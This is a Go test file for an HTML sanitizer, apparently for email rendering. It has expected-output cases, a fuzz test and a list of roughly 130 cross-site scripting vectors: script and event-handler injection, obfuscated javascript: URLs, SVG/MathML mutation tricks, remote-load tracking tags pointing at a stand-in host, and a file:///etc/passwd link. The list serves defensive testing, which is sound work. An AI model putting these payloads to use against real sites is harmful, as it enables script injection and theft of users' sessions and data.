package clean_test

import (
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"

	"tributary/internal/clean"
)

const dot = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

func TestHTML(t *testing.T) {
	t.Parallel()
	for _, c := range [][2]string{
		{"", ""},
		{"plain & simple", "plain &amp; simple"},
		{"<p>你好 <b>world</b></p>", "<p>你好 <b>world</b></p>"},
		{"<script>alert(1)</script>x", "x"},
		{"<style>p{}</style>x", "x"},
		{`<p onclick="x()" style="a">y`, "<p>y"},
		{`<svg><a href="x">y</a></svg>z`, "z"},
		{`<iframe src="https://x"></i>`, ""},
		{`<img src="https://t.co/p.gif">x`, "x"},
		{`<img src="//t.co/p.gif" alt="a">`, ""},
		{`<img src="/p.gif" width=1>`, ""},
		{`<img alt=" src=" title='src="x"'>`, ""},
		{`<img src="cid:part1@x" alt="a" onerror=x>`, `<img src="cid:part1@x" alt="a">`},
		{`<img src="` + dot + `">`, `<img src="` + dot + `">`},
		{`<img src="data:image/svg+xml;base64,PHN2Zz4=">`, ""},
		{`<img src="data:text/html;base64,PHN2Zz4=">`, ""},
		{`<img srcset="https://x 2x" src="cid:a">`, `<img src="cid:a">`},
		{`<a href="javascript:alert(1)">x</a>`, "x"},
		{`<a href=" java&#10;script:alert(1)">x</a>`, "x"},
		{`<a href="/relative">x</a>`, "x"},
		{`<a href="data:image/png;base64,PHN2Zz4=">x</a><a href="cid:a">y</a>`, "xy"},
		{`<a href="https://e.com/?a=1&b=2">x</a>`, `<a href="https://e.com/?a=1&amp;b=2" rel="nofollow noreferrer noopener" target="_blank">x</a>`},
		{`<a href="mailto:a@e.com">x</a>`, `<a href="mailto:a@e.com" rel="nofollow noreferrer">x</a>`},
		{`<form action="https://x"><input name=p><button>b</button></form>c`, "bc"},
		{`<body background="https://x/p.gif"><table background="https://x">`, "<table>"},
		{"<p>a\x00b\x1bc&#1;d</p>", "<p>abcd</p>"},
		{`<td align="center" colspan=2 bgcolor=red>`, `<td align="center" colspan="2">`},
		{`<!-- comment --><!DOCTYPE html><?xml?>x`, "x"},
		{`<p dir="rtl" lang="he" class=x id=y>א</p>`, `<p dir="rtl" lang="he">א</p>`},
		{"<scr<script>ipt>alert(1)</script>", "ipt&gt;alert(1)"},
	} {
		if got := clean.HTML(c[0]); got != c[1] {
			t.Errorf("HTML(%q)\n got %q\nwant %q", c[0], got, c[1])
		}
	}
}

// attacks are ways by which text came to act in browsers; the prefix and suffix of harmless neighbours are added below.
var attacks = []string{
	`<script>alert(1)</script>`, `<script src=//e.com/x.js></script>`, `<ScRiPt >alert(1)</sCrIpT>`, `<script/x>alert(1)</script>`,
	`<scr\x00ipt>alert(1)</script>`, `<<script>alert(1)//<</script>`, `<script>alert(1)`, `</script><script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`, `<img/src=x/onerror=alert(1)>`, `<img src="x" onerror="alert(1)"`, "<img src=`x`onerror=alert(1)>",
	`<img src=x onerror&#61;alert(1)>`, `<img ` + "\x0c" + `onerror=alert(1) src=x>`, `<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
	`<img src="javascript:alert(1)">`, `<img src="&#106;avascript:alert(1)">`, `<img dynsrc="javascript:alert(1)">`, `<img lowsrc="https://e.com/p">`,
	`<img srcset="https://e.com/p 1x">`, `<picture><source srcset="https://e.com/p"><img src="https://e.com/p"></picture>`,
	`<svg onload=alert(1)>`, `<svg/onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><script href="https://e.com/x.js"/></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x>`, `<svg><image href="https://e.com/p">`, `<svg><use href="https://e.com/p#a">`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg><foreignObject><iframe src=x></foreignObject></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><img src=x onerror=alert(1)></template>`,
	`<textarea><img title="</textarea><img src=x onerror=alert(1)>">`, `<title><img title="</title><img src=x onerror=alert(1)>">`,
	`<xmp><img title="</xmp><img src=x onerror=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`, `<noembed><img title="</noembed><img src=x onerror=alert(1)>">`,
	`<iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<iframe src="https://e.com">`, `<frameset onload=alert(1)>`,
	`<object data="https://e.com/x">`, `<embed src="https://e.com/x">`, `<applet code=x>`, `<param name=movie value="https://e.com/x">`,
	`<video src=x onerror=alert(1)>`, `<video poster="https://e.com/p">`, `<audio src="https://e.com/a" autoplay>`, `<video><source onerror=alert(1)></video>`, `<track src="https://e.com/t">`,
	`<body onload=alert(1)>`, `<body background="https://e.com/p">`, `<table background="https://e.com/p">`, `<td background="https://e.com/p">`,
	`<div style="background:url(https://e.com/p)">`, `<div style="width:expression(alert(1))">`, `<div style="behavior:url(x)">`, `<p style="position:fixed;top:0">`,
	`<style>@import "https://e.com/x.css";</style>`, `<style>*{background:url(https://e.com/p)}</style>`, `<link rel=stylesheet href="https://e.com/x.css">`,
	`<link rel=prefetch href="https://e.com/p">`, `<link rel="dns-prefetch" href="//e.com">`, `<meta http-equiv=refresh content="0;url=https://e.com">`,
	`<base href="https://e.com/">`, `<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="java&#9;script:alert(1)">x</a>`,
	`<a href="java&NewLine;script:alert(1)">x</a>`, `<a href="&#x6A;avascript:alert(1)">x</a>`, `<a href="javascript&colon;alert(1)">x</a>`,
	"<a href=\"\x01javascript:alert(1)\">x</a>", "<a href=\" \u00a0javascript:alert(1)\">x</a>", `<a href="vbscript:msgbox(1)">x</a>`, `<a href="livescript:x">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, `<a href="blob:https://e.com/x">x</a>`,
	`<a href="file:///etc/passwd">x</a>`, `<a href="https://e.com" ping="https://e.com/ping">x</a>`, `<a href="https://e.com" onclick=alert(1)>x</a>`,
	`<a xlink:href="javascript:alert(1)">x</a>`, `<a href="https://e.com" target=_top>x</a>`, `<area href="javascript:alert(1)">`, `<map><area shape=default href="javascript:alert(1)"></map>`,
	`<form action="https://e.com"><input type=submit>`, `<input onfocus=alert(1) autofocus>`, `<button formaction="javascript:alert(1)">x</button>`,
	`<input type=image src="https://e.com/p">`, `<isindex action="javascript:alert(1)">`, `<select onfocus=alert(1) autofocus>`, `<keygen onfocus=alert(1) autofocus>`,
	`<details open ontoggle=alert(1)>`, `<marquee onstart=alert(1)>`, `<bgsound src="https://e.com/a">`, `<layer src="https://e.com/x">`, `<dialog open onclose=alert(1)>`,
	`<x onclick=alert(1)>`, `<xss style="x:expression(alert(1))">`, `<custom-element onclick=alert(1)>`, `<p/onmouseover=alert(1)>`, `<b onmouseover=alert(1)>x</b>`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<!--><img src=x onerror=alert(1)>-->`, `<!--!><img src=x onerror=alert(1)>`, `<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<?xml-stylesheet href="javascript:alert(1)"?>`, `<?php echo 1 ?><img src=x onerror=alert(1)>`, `<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;`,
	`<q cite="https://e.com/p">`, `<blockquote cite="javascript:alert(1)">`, `<ins cite="javascript:alert(1)">`, `<li style="list-style-image:url(https://e.com/p)">`,
	`<p title="</p><script>alert(1)</script>">x</p>`, `<abbr title="&quot;><img src=x onerror=alert(1)>">x</abbr>`, `<img alt="&quot; onerror=&quot;alert(1)" src="cid:a">`,
	`<img src="cid:a&quot; onerror=&quot;alert(1)">`, `<img src="cid:a onerror=alert(1)">`, `<img src="data:image/png;base64,x&quot; onerror=&quot;alert(1)">`,
	`<img src="data:image/svg+xml,<svg onload=alert(1)>">`, `<img src=" https://e.com/p">`, "<img src=\"cid:\nhttps://e.com/p\">", `<img src="CID:https://e.com/p">`,
	`+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, "\xbcscript\xbealert(1)\xbc/script\xbe", `&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;alert(1)`,
	`<a href="https://e.com/" style="x"><img src="https://e.com/p"></a>`, `<a href="http://[::1">x</a>`, `<a href="https://e.com/%zz">x</a>`,
}

func TestAttacks(t *testing.T) {
	t.Parallel()
	n := 0
	for _, a := range attacks {
		for _, wrap := range []string{"%s", "<p>before %s after</p>", "<table><tr><td>%s", `<a href="https://e.com">%s</a>`} {
			n++
			in := strings.Replace(wrap, "%s", a, 1)
			inert(t, in, clean.HTML(in))
		}
	}
	if n < 200 {
		t.Errorf("only %d vectors", n)
	}
}

var inline = regexp.MustCompile(`^(?i)(cid:|data:image/(png|jpeg|gif|webp);base64,)`)

// inert reads what came out as a browser does, with a parser and not the sanitizer's own eyes.
func inert(t *testing.T, in, out string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	allowed := map[string]bool{
		"href": true, "src": true, "alt": true, "title": true, "width": true, "height": true, "dir": true, "lang": true, "colspan": true,
		"rowspan": true, "align": true, "start": true, "rel": true, "target": true,
	}
	for n := range root.Descendants() {
		if n.Type == html.CommentNode || n.Type == html.DoctypeNode {
			t.Errorf("%q gives %q: a comment", in, out)
		}
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "link", "meta", "base", "video", "audio", "template", "noscript", "textarea", "title", "source", "frameset":
			t.Errorf("%q gives %q: %s", in, out, n.Data)
		}
		for _, a := range n.Attr {
			switch {
			case !allowed[a.Key] || a.Namespace != "":
				t.Errorf("%q gives %q: attribute %s", in, out, a.Key)
			case a.Key == "src" && !inline.MatchString(a.Val):
				t.Errorf("%q gives %q: loads %s", in, out, a.Val)
			case a.Key == "href" && !regexp.MustCompile(`^(https?|mailto|tel):`).MatchString(a.Val):
				t.Errorf("%q gives %q: links to %s", in, out, a.Val)
			case a.Key == "target" && a.Val != "_blank":
				t.Errorf("%q gives %q: target %s", in, out, a.Val)
			}
		}
	}
}

func FuzzHTML(f *testing.F) {
	for _, a := range attacks {
		f.Add(a)
	}
	f.Add("<p>a</p>" + `<img src="` + dot + `">`)
	f.Add(strings.Repeat("<b>", 50))
	f.Fuzz(func(t *testing.T, s string) {
		got := clean.HTML(s)
		if again := clean.HTML(got); again != got {
			t.Errorf("%q\n gives %q\n then  %q", s, got, again)
		}
		if !utf8.ValidString(got) || clean.Text(got) != got {
			t.Errorf("%q gives %q", s, got)
		}
		inert(t, s, got)
	})
}
